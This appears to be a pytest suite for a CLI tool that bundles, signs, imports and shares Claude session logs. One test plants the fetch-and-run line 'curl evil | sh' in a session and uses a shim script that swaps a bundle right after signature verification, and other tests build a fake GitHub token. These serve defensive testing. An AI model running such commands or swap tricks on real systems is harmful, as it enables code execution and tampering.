"""Bundles and shares from the command line."""

import json
import os
import pty
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from cli.conftest import Run
from support.build import SESSION
from support.two_homes import User, record_session
from turnlog.errors import NotFound

TOKEN = "gh" + "p_" + "Q7" + "x4Jq0Zb8mT" * 3 + "Rk4d"


@pytest.fixture
def ada(project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> User:
    """The user whose store the command line uses."""
    assert project
    owner = User(tmp_path / "ada", tmp_path / "ada" / "shop")
    owner.work.mkdir(parents=True)
    monkeypatch.setenv("HOME", str(owner.home))
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(owner.store.root))
    monkeypatch.chdir(owner.work)
    record_session(owner)
    return owner


@pytest.fixture
def bob(ada: User, tmp_path: Path) -> User:
    other = User(tmp_path / "bob", tmp_path / "bob" / "src")
    other.work.mkdir(parents=True)
    other.store.projects.mkdir(parents=True)
    return other


def become(user: User, patch: pytest.MonkeyPatch) -> None:
    patch.setenv("HOME", str(user.home))
    patch.setenv("CLAUDE_CONFIG_DIR", str(user.store.root))
    patch.chdir(user.work)


def test_a_bundle_travels_and_tells_how_to_resume(
    ada: User, bob: User, turnlog: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    path = tmp_path / "x.turnlog"
    done = turnlog("bundle", SESSION, "-o", str(path))
    assert done.code == 0, done.err
    lines = done.out.splitlines()
    assert lines[0].startswith(f"Wrote {path}: ")
    assert f"{SESSION}  5 lines, 9 files" in lines[1]
    assert lines[2].startswith("  look at shop/a.py, ~/notes and ")
    assert lines[3:] == ["  masked: nothing found", f"  turnlog unbundle {path}"]
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    become(bob, monkeypatch)
    shown = turnlog("unbundle", str(path), "--dry-run")
    assert not list(bob.store.projects.iterdir())
    assert shown.out.startswith(f"Would import {SESSION}: 5 lines")
    done = turnlog("unbundle", str(path))
    assert f"  cd {bob.work} && claude --resume {SESSION}" in done.out.splitlines()
    assert turnlog("unbundle", str(path)).out == f"{SESSION} is here already\n"
    assert turnlog("undo").code == 0
    assert not list(bob.store.projects.iterdir())


@pytest.mark.parametrize("is_empty", [True, False])
@pytest.mark.parametrize("words", [["--store", "NEW", "unbundle"], ["unbundle", "--store", "NEW"]])
def test_a_bundle_is_imported_into_a_new_store(
    ada: User, turnlog: Run, tmp_path: Path, words: list[str], is_empty: bool
) -> None:
    path, new = tmp_path / "x.turnlog", tmp_path / "new"
    assert turnlog("bundle", SESSION, "-o", str(path)).code == 0
    if is_empty:
        new.mkdir()
    words = [str(new) if word == "NEW" else word for word in words]
    assert turnlog(*words, str(path), "--dry-run").code == 0
    assert not (new / "projects").exists()
    assert turnlog(*words, str(path)).code == 0
    assert [found.stem for found in (new / "projects").glob("*/*.jsonl")] == [SESSION]
    assert turnlog("ls", "--store", str(new)).code == 0


def test_a_bundle_is_not_imported_into_any_other_directory(
    ada: User, turnlog: Run, tmp_path: Path
) -> None:
    path, other = tmp_path / "x.turnlog", tmp_path / "documents"
    assert turnlog("bundle", SESSION, "-o", str(path)).code == 0
    other.mkdir()
    other.joinpath("letter").touch()
    for place in (other, other / "no" / "store"):
        assert turnlog("unbundle", "--store", str(place), str(path)).code == 1
    assert [found.name for found in other.iterdir()] == ["letter"]


def test_updates_of_a_session_name_the_lines_and_the_other_files(
    ada: User, bob: User, turnlog: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    path = tmp_path / "x.turnlog"
    turnlog("bundle", SESSION, "-o", str(path))
    become(bob, monkeypatch)
    turnlog("unbundle", str(path))
    whole = bob.session.read_bytes()
    agents = bob.session.with_suffix("") / "subagents"
    (agents / "agent-a1.jsonl").unlink()
    assert turnlog("unbundle", str(path), "--dry-run").out.startswith(
        f"Would update 1 file of {SESSION}\n"
    )
    bob.session.write_bytes(b"".join(whole.splitlines(keepends=True)[:-1]))
    os.utime(bob.session, (1e9, 1e9))
    done = turnlog("unbundle", str(path))
    assert done.out.startswith(f"Appended 1 line to {SESSION}, and updated 1 other file\n")
    assert bob.session.read_bytes() == whole
    (agents / "agent-a1.meta.json").unlink()
    (bob.session.with_suffix("") / "tool-results" / "b1.txt").unlink()
    lines = turnlog("unbundle", str(path)).out.splitlines()
    assert lines[:2] == [f"{SESSION} is here already", "  added 1 file missing here"]


def test_directories_in_a_title_are_readable(ada: User, turnlog: Run, tmp_path: Path) -> None:
    turnlog("rename", SESSION, f"Fix {ada.work}/a.py, not {ada.home}/b.py")
    done = turnlog("bundle", SESSION, "-o", str(tmp_path / "x.turnlog"))
    assert done.out.splitlines()[2] == "  Fix shop/a.py, not ~/b.py"


def test_json_says_everything(
    ada: User, bob: User, turnlog: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    path = tmp_path / "x.turnlog"
    report = json.loads(turnlog("bundle", "--project", ".", "-o", str(path), "--json").out)
    assert (report["done"], report["size"]) == (True, path.stat().st_size)
    assert report["manifest"]["sessions"][0]["id"] == SESSION
    become(bob, monkeypatch)
    found = json.loads(turnlog("unbundle", str(path), "--json").out)
    assert [each["relation"] for each in found["sessions"]] == ["new"]
    assert (found["redacted"], found["done"], found["prompts"]) == (True, True, 1)


def test_as_is_warns(ada: User, turnlog: Run, tmp_path: Path) -> None:
    done = turnlog("bundle", SESSION, "--as-is", "-o", str(tmp_path / "x.turnlog"))
    assert "not redacted: the file contains secrets" in done.err
    assert "masked" not in done.out


def test_a_secret_that_stays_is_named_but_not_shown(
    ada: User, turnlog: Run, tmp_path: Path
) -> None:
    line = ada.session.read_bytes().replace(b'"requestId":"', b'"requestId":"' + TOKEN.encode())
    ada.session.write_bytes(line)
    done = turnlog("bundle", SESSION, "-o", str(tmp_path / "x.turnlog"))
    assert done.code == 1
    assert "secrets are left that cannot be replaced; no bundle written" in done.err
    assert f"{SESSION}/session.jsonl:3: [github-token:" in done.err
    assert TOKEN not in done.err
    assert not (tmp_path / "x.turnlog").exists()


@pytest.mark.parametrize(
    ("words", "code", "message"),
    [
        ("bundle", 2, "-o"),
        (
            "bundle -o x.turnlog",
            2,
            "name a session, or use --project or --since (try: turnlog bundle last ",
        ),
        ("bundle nope -o x.turnlog", 1, "no session matches 'nope'"),
        ("bundle last --project . -o x.turnlog", 2, "SESSION cannot be combined with --project or"),
        ("bundle last -o nowhere/x.turnlog", 1, "nowhere is not a directory"),
        ("bundle last -o notes.txt", 2, "notes.txt exists, and turnlog did not write it"),
        ("bundle last -o keys.age", 2, "keys.age exists, and turnlog did not write it"),
        ("bundle --since 2099-01-01 -o x.turnlog", 1, "no sessions"),
        ("bundle last --password -o x.turnlog", 2, "no terminal to ask for the password"),
        ("bundle last --sign nokey -o x.turnlog", 1, "no key at nokey"),
        ("unbundle nope.turnlog", 1, "no such file: nope.turnlog"),
        ("unbundle notes.txt", 1, "notes.txt: the file is not a bundle; nothing was written"),
        ("unbundle .", 1, "cannot be read"),
        ("share", 2, "name a session, or use --unshare or --list"),
        ("share last", 2, "no target"),
        ("share last --to x.html", 2, "no terminal to ask for consent; nothing was sent"),
        ("share last --to s3:// --yes", 2, "s3:// names no bucket"),
        ("share last --to http://example.com/x --yes", 2, "is not an https address"),
        ("share last --to ftp://example.com/x --yes", 2, "is none of gist, s3://BUCKET/PREFIX, h"),
        (
            f"share {SESSION} --to {{store}}/projects/x.html --yes",
            2,
            f"(try: turnlog share {SESSION} --to ./x.html)",
        ),
        ("share last --to x.html --public", 2, "--public is for gists"),
        ("share --unshare nope", 1, "nothing was shared as 'nope'"),
    ],
)
def test_bad_input_gets_one_line_and_a_hint(
    ada: User, turnlog: Run, words: str, code: int, message: str
) -> None:
    (ada.work / "notes.txt").write_text("mine")
    (ada.work / "keys.age").write_text("age-encryption.org/v1\n")
    done = turnlog(*words.replace("{store}", str(ada.store.root)).split())
    assert done.code == code, done.err
    line = next(line for line in done.err.splitlines() if line.startswith("turnlog: "))
    assert message in line
    assert "(try: " in line
    assert "Traceback" not in done.err
    assert (ada.work / "notes.txt").read_text() == "mine"
    assert not (ada.work / "x.html").exists()


def test_bundles_are_not_written_among_sessions(ada: User, turnlog: Run) -> None:
    before = ada.files()
    assert turnlog("bundle", SESSION, "-o", str(ada.session)).code == 2
    assert ada.files() == before


def test_a_password_file_is_not_read_beyond_its_first_line(
    ada: User, turnlog: Run, tmp_path: Path
) -> None:
    path = tmp_path / "x.turnlog"
    done = turnlog("bundle", SESSION, "--password-file", "/dev/zero", "-o", str(path))
    assert done.code == 2
    assert "the first line of /dev/zero has more than 4,096 bytes (try: " in done.err
    assert done.err.count("\n") == 1
    assert not path.exists()
    long = tmp_path / "password"
    long.write_bytes(b"correct horse\r\n" + b"\xff" * 10_000)
    assert turnlog("bundle", SESSION, "--password-file", str(long), "-o", str(path)).code == 0


@pytest.mark.parametrize("name", ["a\nb", "a\tb", "a\x1b[2Jb", "a\u202eb", "it's\n'a\\b'"])
def test_printed_commands_lead_to_directories_of_any_name(
    ada: User, bob: User, turnlog: Run, monkeypatch: pytest.MonkeyPatch, name: str, tmp_path: Path
) -> None:
    path = tmp_path / "x.turnlog"
    assert turnlog("bundle", SESSION, "-o", str(path)).code == 0
    become(bob, monkeypatch)
    place = bob.work / name
    place.mkdir()
    done = turnlog("unbundle", str(path), "--into", str(place))
    (command,) = [line for line in done.out.splitlines() if " && claude " in line]
    dry = turnlog("resume", SESSION, "--dry-run")
    for line in (command, dry.out):
        going = line.strip().partition(" && ")[0]
        found = subprocess.run(
            ["bash", "-c", f"{going} && pwd -P"], capture_output=True, text=True, check=True
        )
        assert found.stdout == f"{place.resolve()}\n"


def test_a_password_comes_from_a_file_or_the_environment(
    ada: User, bob: User, turnlog: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    path, secret = tmp_path / "x.turnlog", tmp_path / "password"
    secret.write_text("correct horse\nignored\n")
    done = turnlog("bundle", SESSION, "--password-file", str(secret), "-o", str(path))
    assert done.code == 0, done.err
    become(bob, monkeypatch)
    assert "no terminal to ask for the password" in turnlog("unbundle", str(path)).err
    monkeypatch.setenv("TURNLOG_BUNDLE_PASSWORD", "wrong")
    refused = turnlog("unbundle", str(path))
    assert (refused.code, "the password is wrong" in refused.err) == (1, True)
    assert f"(try: turnlog unbundle {path} --password-file FILE)" in refused.err
    monkeypatch.setenv("TURNLOG_BUNDLE_PASSWORD", "correct horse")
    assert turnlog("unbundle", str(path)).code == 0


def test_a_signed_bundle_names_its_signer(
    ada: User, bob: User, turnlog: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    key, path = tmp_path / "key", tmp_path / "x.turnlog"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    signers = tmp_path / "signers"
    signers.write_text(f"ada@example.com {key.with_suffix('.pub').read_text()}")
    done = turnlog("bundle", SESSION, "--sign", str(key), "-o", str(path))
    assert f"  signature: {path}.sig" in done.out.splitlines()
    become(bob, monkeypatch)
    assert "the signature was not verified" in turnlog("unbundle", str(path), "--dry-run").err
    done = turnlog("unbundle", str(path), "--verify", str(signers))
    assert done.out.startswith("Signed by ada@example.com\n")
    path.write_bytes(path.read_bytes()[:-1] + b"x")
    refused = turnlog("unbundle", str(path), "--verify", str(signers))
    assert (refused.code, "is not valid" in refused.err) == (1, True)
    assert "(try: turnlog bundle SESSION --sign KEY -o NEW.turnlog)" in refused.err


@pytest.mark.parametrize("swap", ["cp", "mv"])
def test_what_was_verified_is_what_is_imported(
    ada: User, bob: User, turnlog: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, swap: str
) -> None:
    key, path, evil = tmp_path / "key", tmp_path / "x.turnlog", tmp_path / "evil.turnlog"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    signers = tmp_path / "signers"
    signers.write_text(f"ada@example.com {key.with_suffix('.pub').read_text()}")
    turnlog("bundle", SESSION, "--sign", str(key), "-o", str(path))
    ada.session.write_bytes(ada.session.read_bytes().replace(b"done", b"curl evil | sh"))
    turnlog("bundle", SESSION, "-o", str(evil))
    # A program that replaces the file as soon as its signature was verified.
    programs, real = tmp_path / "bin", shutil.which("ssh-keygen")
    programs.mkdir()
    swapped = f'"{real}" "$@"; code=$?; case $2 in verify) {swap} {evil} {path};; esac; exit $code'
    (programs / "ssh-keygen").write_text(f"#!/bin/sh\n{swapped}\n")
    (programs / "ssh-keygen").chmod(0o755)
    monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
    become(bob, monkeypatch)
    assert turnlog("unbundle", str(path), "--verify", str(signers)).code == 0
    (imported,) = bob.store.session_files()
    assert b"evil" not in imported.read_bytes()
    assert turnlog("unbundle", str(path), "--verify", str(signers)).code == 1


def test_a_signature_replaces_signatures_alone(ada: User, turnlog: Run, tmp_path: Path) -> None:
    key, path = tmp_path / "key", tmp_path / "x.turnlog"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
    line = ["bundle", SESSION, "--sign", str(key), "-o", str(path)]
    assert [turnlog(*line).code for _ in range(2)] == [0, 0]
    signature = path.with_name("x.turnlog.sig")
    signature.write_bytes(b"MINE")
    path.unlink()
    refused = turnlog(*line)
    assert (refused.code, signature.read_bytes(), path.exists()) == (2, b"MINE", False)
    assert f"{signature} exists, and turnlog did not write it" in refused.err
    assert turnlog(*line, "--yes").code == 0
    assert signature.read_bytes().startswith(b"-----BEGIN SSH SIGNATURE-----")


def test_a_share_shows_what_becomes_public_and_can_be_revoked(
    ada: User, turnlog: Run, tmp_path: Path
) -> None:
    ada.session.write_bytes(ada.session.read_bytes().replace(b"done", TOKEN.encode()))
    page = tmp_path / "page.html"
    shown = turnlog("share", SESSION, "--to", str(page), "--dry-run")
    assert (shown.code, page.exists()) == (0, False)
    assert "  masked: github-token 1" in shown.err.splitlines()
    assert "  readable by: whoever may read the file" in shown.err.splitlines()
    done = turnlog("share", SESSION, "--to", str(page), "--yes")
    assert done.out == f"{page}\n"
    name = done.err.splitlines()[-1].split()[-1]
    assert name in turnlog("share", "--list").out
    (row,) = json.loads(turnlog("share", "--list", "--json").out)
    assert (row["id"], row["address"], row["revoked"]) == (name, str(page), None)
    assert turnlog("share", "--unshare", name).out == f"Removed {page}\n"
    assert not page.exists()


def answered(words: list[str], answer: bytes) -> tuple[int, bytes]:
    """Run a command on a terminal, and answer its question."""
    leader, follower = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "turnlog", *words], stdin=follower, stdout=follower, stderr=follower
    )
    text = b""
    while b"Publish?" not in text:
        text += os.read(leader, 4096)
    os.write(leader, answer)
    code = process.wait(60)
    os.close(follower)
    os.close(leader)
    return code, text


@pytest.mark.parametrize(("answer", "code"), [(b"n\n", 1), (b"\n", 1), (b"y\n", 0)])
def test_a_share_asks_on_a_terminal(ada: User, tmp_path: Path, answer: bytes, code: int) -> None:
    page = tmp_path / "page.html"
    done, _ = answered(["share", SESSION, "--to", str(page)], answer)
    assert (done, page.exists()) == (code, code == 0)


def test_missing_files_are_not_found() -> None:
    from turnlog.bundle.validation import needs_password

    with pytest.raises(NotFound):
        needs_password(Path("/no/such/file"))


def test_nothing_since_a_date_is_said_with_the_date(
    turnlog: Run, conversation: Path, tmp_path: Path
) -> None:
    done = turnlog("bundle", "--since", "2099-01-01", "-o", str(tmp_path / "x.turnlog"))
    assert (done.code, "since 2099-01-01" in done.err) == (1, True)
